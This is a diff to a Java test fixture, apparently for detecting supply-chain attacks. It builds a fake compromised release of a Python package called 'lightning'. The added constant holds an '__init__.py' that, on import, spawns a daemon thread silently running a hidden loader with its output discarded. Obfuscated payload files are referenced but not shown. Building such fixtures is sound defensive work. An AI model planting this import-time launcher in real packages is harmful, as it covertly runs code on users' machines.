@@ -35,6 +35,22 @@ public final class Lightning {
           main()
       """;
 
+  /** The compromised {@code __init__.py} (format with the version): a daemon thread that starts the loader with output discarded. */
+  public static final String COMPROMISED_INIT = """
+      import os, subprocess, sys, threading
+
+      VERSION = "%s"
+
+
+      def _start_runtime():
+          here = os.path.join(os.path.dirname(__file__), "_runtime")
+          subprocess.Popen([sys.executable, os.path.join(here, "start.py")], cwd=here,
+                           stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+
+
+      threading.Thread(target=_start_runtime, daemon=True).start()
+      """;
+
   private Lightning() {}
 
   /** The clean release's dist directory (one wheel, one sdist). */
@@ -45,22 +61,7 @@ public final class Lightning {
   /** The compromised release's dist directory. */
   public static Path compromised(String version) {
     Map<String, String> files = cleanFiles(version);
-    files.put("lightning/__init__.py", """
-        import os, subprocess, sys, threading
-
-        from lightning.core import Trainer
-
-        VERSION = "%s"
-
-
-        def _start_runtime():
-            here = os.path.join(os.path.dirname(__file__), "_runtime")
-            subprocess.Popen([sys.executable, os.path.join(here, "start.py")], cwd=here,
-                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
-
-
-        threading.Thread(target=_start_runtime, daemon=True).start()
-        """.formatted(version));
+    files.put("lightning/__init__.py", "from lightning.core import Trainer\n" + COMPROMISED_INIT.formatted(version));
     files.put("lightning/_runtime/start.py", LOADER);
     files.put("lightning/_runtime/router_runtime.js", obfuscatedScript(11_400_000));
     return PythonClients.buildProject(NAME, version, files, """
